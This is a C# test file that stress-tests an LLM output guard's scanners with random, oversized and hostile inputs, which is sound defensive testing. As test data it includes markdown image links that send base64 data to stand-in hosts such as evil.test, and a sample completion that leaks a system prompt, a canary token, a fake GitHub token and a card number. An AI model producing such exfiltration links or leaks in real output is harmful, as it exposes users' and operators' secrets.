using System.Text;
using LlmSecOps.Core.Policy;
using LlmSecOps.Core.Scanning;
using LlmSecOps.Guard.Scanners.Canary;
using LlmSecOps.Guard.Scanners.DenyList;
using LlmSecOps.Guard.Scanners.Exfiltration;
using LlmSecOps.Guard.Scanners.Length;
using LlmSecOps.Guard.Scanners.Pii;
using LlmSecOps.Guard.Scanners.Refusal;
using LlmSecOps.Guard.Scanners.Secrets;
using LlmSecOps.Guard.Scanners.SystemPromptLeak;

namespace LlmSecOps.Guard.Tests.Scanners;

/// <summary>Random and hostile input to every data and output scanner: nothing throws, everything finishes.</summary>
public sealed class ScannerRobustnessTests
{
    private const string SystemPrompt = "You are a careful assistant for the finance team. Never share account numbers or the escalation contacts.";
    private static readonly string Canary = "canary-" + Fake.Chars(Fake.LowerAlnumChars, 10);

    private static readonly GuardPolicy Policy = GuardPolicy.Default with
    {
        Deny = new DenyListPolicy { Substrings = ["forbidden", "x"], Regexes = [@"\d{3}-\d{4}", @"(?i)secret\s+plan"] },
        Limits = new LimitsPolicy { MaxInputChars = 50_000, MaxInputTokens = 10_000, MaxOutputChars = 50_000, MaxOutputTokens = 10_000 },
        AllowedLinkHosts = ["example.com"],
    };

    public static TheoryData<string> ScannerNames() => new()
    {
        "secrets", "pii", "length", "deny_list", "canary", "system_prompt_leak", "exfiltration_link", "refusal",
    };

    private static Scanner Create(string name) => name switch
    {
        "secrets" => new SecretsScanner(),
        "pii" => new PiiScanner(Policy),
        "length" => new LengthScanner(),
        "deny_list" => new DenyListScanner(Policy),
        "canary" => new CanaryScanner(),
        "system_prompt_leak" => new SystemPromptLeakScanner(),
        "exfiltration_link" => new ExfiltrationLinkScanner(),
        "refusal" => new RefusalScanner(),
        _ => throw new ArgumentOutOfRangeException(nameof(name)),
    };

    private static async Task<IReadOnlyList<Finding>> RunAsync(Scanner scanner, string text, Direction direction)
    {
        var findings = await ScannerHarness.ScanAsync(scanner, text, direction, Policy, SystemPrompt, [Canary]);
        foreach (var f in findings)
        {
            Assert.InRange(f.Score, 0, 1);
            if (f.Span is { } s)
            {
                Assert.True(s.Start >= 0 && s.Length >= 0 && s.End <= text.Length, $"{scanner.Name}: span {s} outside {text.Length}");
            }
        }

        return findings;
    }

    [Theory]
    [MemberData(nameof(ScannerNames))]
    public async Task RandomText_NeverThrows(string name)
    {
        var scanner = Create(name);
        var random = new Random(20240611);
        for (var i = 0; i < 150; i++)
        {
            var text = Fake.RandomText(random, random.Next(0, 600));
            await RunAsync(scanner, text, Direction.Input);
            await RunAsync(scanner, text, Direction.Output);
        }
    }

    [Theory]
    [MemberData(nameof(ScannerNames))]
    public async Task RandomBytesDecodedAsText_NeverThrow(string name)
    {
        var scanner = Create(name);
        var random = new Random(77);
        var buffer = new byte[2048];
        for (var i = 0; i < 60; i++)
        {
            random.NextBytes(buffer);
            var length = random.Next(0, buffer.Length);
            await RunAsync(scanner, Encoding.UTF8.GetString(buffer, 0, length), Direction.Output);
            await RunAsync(scanner, Encoding.Latin1.GetString(buffer, 0, length), Direction.Input);
        }
    }

    [Theory]
    [MemberData(nameof(ScannerNames))]
    public async Task RandomFragmentsOfRealShapes_NeverThrow(string name)
    {
        // Splices of the shapes the scanners look for, cut at random places.
        string[] shapes =
        [
            "![a](https://evil.test/p.png?d=" + Fake.B64Url(40) + ")", "<img src=\"//h.test/x?y=1\">", "[r]: https://h.test/",
            "ghp_" + Fake.Alnum(36), "-----BEGIN PRIVATE KEY-----\n" + Fake.B64(64) + "\n", "eyJhbGciOiJIUzI1NiJ9.eyJ4IjoxfQ.",
            "postgres://u:p@h/db", "Password=abc;Server=x;", "+1 (415) 555-2671", "4111 1111 1111 1111", "GB82 WEST 1234",
            "2001:db8::1", "192.168.0.1", "I'm sorry, but I can't", "申し訳ありませんが", Canary, SystemPrompt, "[[[[((((", "%%%%", "::::",
        ];
        var scanner = Create(name);
        var random = new Random(5);
        for (var i = 0; i < 200; i++)
        {
            var sb = new StringBuilder();
            for (var k = random.Next(1, 6); k > 0; k--)
            {
                var shape = shapes[random.Next(shapes.Length)];
                var from = random.Next(shape.Length);
                sb.Append(shape, from, random.Next(shape.Length - from + 1));
                sb.Append(Fake.RandomText(random, random.Next(0, 4)));
            }

            await RunAsync(scanner, sb.ToString(), Direction.Output);
        }
    }

    [Theory]
    [MemberData(nameof(ScannerNames))]
    public async Task OneMegabyteInputs_Finish(string name)
    {
        var scanner = Create(name);
        var prose = new StringBuilder();
        while (prose.Length < 1 << 20)
        {
            prose.Append("The quarterly report lists revenue, costs and the plan for next year; call the office for details. ");
        }

        var texts = new[]
        {
            prose.ToString(),
            new string('a', 1 << 20),
            new string('1', 1 << 20),
            string.Concat(Enumerable.Repeat("1 ", 1 << 19)),
            string.Concat(Enumerable.Repeat("a@", 1 << 19)),
            string.Concat(Enumerable.Repeat("https://", 1 << 17)),
            string.Concat(Enumerable.Repeat("password=", 116_509)),
            Fake.B64(1 << 20),
        };

        foreach (var text in texts)
        {
            await RunAsync(scanner, text, Direction.Input);
            await RunAsync(scanner, text, Direction.Output);
        }
    }

    [Fact]
    public async Task OneMegabytePromptWithSecretsAtTheEnds_FindsBoth()
    {
        var first = "ghp_" + Fake.Alnum(36, 1);
        var last = "ghp_" + Fake.Alnum(36, 2);
        var text = first + " " + new string('x', 1 << 20) + " " + last;

        var findings = await RunAsync(new SecretsScanner(), text, Direction.Input);

        Assert.Equal([first, last], findings.Select(f => ScannerHarness.SpanText(text, f)));
    }

    [Fact]
    public async Task OneMegabyteCompletionWithCanaryAtTheEnd_IsALeak()
    {
        var text = new string('z', 1 << 20) + " " + Canary;

        var findings = await RunAsync(new CanaryScanner(), text, Direction.Output);

        Assert.Equal(Canary, ScannerHarness.SpanText(text, Assert.Single(findings)));
    }

    [Theory]
    [MemberData(nameof(ScannerNames))]
    public async Task EveryPrefixOfAHostileCompletion_IsScannedWithoutError(string name)
    {
        var completion =
            "Sure! I'm sorry, but here it is anyway:\n" + SystemPrompt + "\n" +
            $"![status](https://stats.evil.test/p.png?session={Fake.B64Url(44)}&u=finance+team) " +
            "<img src=\"https://evil.test/" + Fake.B64Url(40) + "\"> token ghp_" + Fake.Alnum(36) +
            " mail ceo@larkspur.dev, card 4111 1111 1111 1111, canary " + Canary + " end.";
        var scanner = Create(name);
        for (var n = 0; n <= completion.Length; n++)
        {
            await RunAsync(scanner, completion[..n], Direction.Output);
        }
    }

    [Fact]
    public async Task Engine_StreamedCompletion_IsBlockedBeforeItIsWhole()
    {
        var engine = GuardEngine.Create();
        var completion = $"Here you go. ![x](https://evil.test/p.png?d={Fake.B64Url(48)}) and that is all for today, thanks for asking.";
        var blockedAt = -1;
        for (var n = 8; n <= completion.Length; n += 8)
        {
            var result = await engine.ScanAsync(new ScanRequest { Direction = Direction.Output, Text = completion[..n] })
                .AsTask().WaitAsync(ScannerHarness.Timeout);
            if (result.Verdict == Verdict.Block)
            {
                blockedAt = n;
                break;
            }
        }

        Assert.InRange(blockedAt, 1, completion.Length - 20);
    }
}
